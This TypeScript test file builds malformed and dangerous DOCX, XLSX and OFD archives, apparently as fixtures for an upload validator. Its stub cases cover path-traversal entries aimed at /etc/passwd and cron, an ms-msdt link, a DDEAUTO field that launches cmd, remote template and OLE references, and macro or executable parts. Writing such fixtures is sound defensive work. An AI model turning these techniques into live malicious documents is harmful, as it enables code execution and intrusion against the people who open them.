// cspell:ignore Attachs msdt xternal
import { bad, type BadFile } from './bad-file.js';
import { bombs } from './bombs.js';
import { contentTypes, docx, ofd, rels, xlsx } from './good-files.js';
import { type Part, zip } from './zip-writer.js';

const part = (name: string, content: Buffer | string = 'x'): Part => ({ name, content });
const xml = (body: string): string => `<?xml version="1.0" encoding="UTF-8"?>${body}`;
const outside = (type: string, target: string): Part =>
  rels('word/_rels/document.xml.rels', { type, target, mode: 'External' });

const hidden = (): BadFile[] => [
  bad('PATH', 'a part above its folder', '路径一.docx', docx([part('../../etc/cron.d/x')])),
  bad('PATH', 'a part at an absolute path', '路径二.docx', docx([part('/etc/passwd')])),
  bad('PATH', 'a part at a drive', '路径三.docx', docx([part('C:/windows/x')])),
  bad('PATH', 'a part with backslashes', '路径四.docx', docx([part('word\\..\\..\\x')])),
  bad('DAMAGED', 'two parts of one name', '同名.docx', docx([part('word/a.txt'), part('word/A.txt')])),
  bad(
    'DAMAGED',
    'another name in the local header',
    '异名.docx',
    docx([{ ...part('word/a.txt'), claims: { localName: 'word/a.exe' } }]),
  ),
  bad('DAMAGED', 'a wrong checksum', '校验.docx', docx([{ ...part('word/a.txt'), claims: { crc: 1 } }])),
  bad(
    'DAMAGED',
    'an unknown packing',
    '压缩.docx',
    docx([{ ...part('word/a.txt'), claims: { method: 99 } }]),
  ),
  bad('DAMAGED', 'half a file', '半个.docx', docx().subarray(0, 300)),
  bad(
    'ENCRYPTED',
    'an encrypted part',
    '加密.docx',
    docx([{ ...part('word/a.txt'), claims: { flags: 0x801 } }]),
  ),
  bad('POLYGLOT', 'a comment with a page', '注释.docx', docx([], { comment: '<script>1</script>' })),
  bad('POLYGLOT', 'bytes behind the end', '尾巴.docx', docx([], { after: Buffer.from('MZ\0\0') })),
  bad(
    'POLYGLOT',
    'bytes between parts and directory',
    '夹层.docx',
    docx([], { between: Buffer.alloc(500, 'x') }),
  ),
  bad(
    'TYPE',
    'a program before the archive',
    '自解压.docx',
    docx([], { before: Buffer.from('MZ\0\0 a program') }),
  ),
  bad('TYPE', 'an archive that is no document', '压缩包.docx', zip([part('a.txt')])),
  bad('TYPE', 'an empty archive', '空包.xlsx', zip([part('word/')])),
  bad('EXTENSION', 'a workbook named as a document', '工资.docx', xlsx()),
  bad('EXTENSION', 'a document named as an OFD', '申请.ofd', docx()),
];

const active = (): BadFile[] => [
  bad('ACTIVE', 'macros', '宏.docx', docx([part('word/vbaProject.bin')])),
  bad(
    'ACTIVE',
    'macros declared under another name',
    '宏二.docx',
    zip([
      contentTypes('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      part('word/document.xml', xml('<x/>')),
    ]),
  ),
  bad('ACTIVE', 'macro sheets of old', '宏表.xlsx', xlsx([part('xl/macrosheets/sheet1.xml', xml('<x/>'))])),
  bad('ACTIVE', 'an ActiveX control', '控件.docx', docx([part('word/activeX/activeX1.xml', xml('<x/>'))])),
  bad(
    'ACTIVE',
    'a template from elsewhere',
    '模板.docx',
    docx([outside('attachedTemplate', 'http://example.invalid/t.dotm')]),
  ),
  bad(
    'ACTIVE',
    'an object from elsewhere',
    '对象.docx',
    docx([outside('oleObject', 'http://example.invalid/a.rtf')]),
  ),
  bad('ACTIVE', 'a frame from a file share', '共享.docx', docx([outside('frame', '\\\\203.0.113.9\\share')])),
  bad(
    'ACTIVE',
    'a picture from elsewhere',
    '图片.docx',
    docx([outside('image', 'http://example.invalid/beacon.png')]),
  ),
  bad('ACTIVE', 'a link that runs', '链接.docx', docx([outside('hyperlink', 'ms-msdt:/id PCWDiagnostic')])),
  bad(
    'ACTIVE',
    'outside spelt in references',
    '实体.docx',
    docx([
      part(
        'word/_rels/document.xml.rels',
        xml(
          '<Relationships><Relationship Type="a/attachedTemplate" Target="t" TargetMode="&#69;xternal"/></Relationships>',
        ),
      ),
    ]),
  ),
  bad(
    'ACTIVE',
    'a field that starts a program',
    '域.docx',
    docx([part('word/footer1.xml', xml('<w:instrText>DDEAUTO c:\\x "cmd"</w:instrText>'))]),
  ),
  bad(
    'ACTIVE',
    'an OLE object',
    '嵌入.docx',
    docx([part('word/embeddings/oleObject1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex'))]),
  ),
  bad(
    'ACTIVE',
    'a program under the name of a picture',
    '程序.docx',
    docx([part('word/media/image1.png', 'MZ\x90\0')]),
  ),
  bad('ACTIVE', 'a script', '脚本.ofd', ofd([part('Doc_0/Attachs/a.js')])),
  bad('ARCHIVE', 'a workbook in a document', '套娃.docx', docx([part('word/embeddings/book.xlsx', xlsx())])),
  bad(
    'ARCHIVE',
    'an archive under the name of a picture',
    '假图.docx',
    docx([part('word/media/image1.png', docx())]),
  ),
  bad(
    'ARCHIVE',
    'a packed file (gzip)',
    '压缩.ofd',
    ofd([part('Doc_0/a.dat', Buffer.from('1f8b0800', 'hex'))]),
  ),
  bad(
    'DAMAGED',
    'XML in another encoding',
    '编码.docx',
    docx([part('word/_rels/a.xml.rels', Buffer.from('\ufeff<Relationships/>', 'utf16le'))]),
  ),
  bad(
    'DAMAGED',
    'XML that declares another encoding',
    '编码二.docx',
    docx([part('word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><x/>')]),
  ),
];

/** Archives that are no document or more than one. */
export const badArchives = (): BadFile[] => [...bombs(), ...hidden(), ...active()];
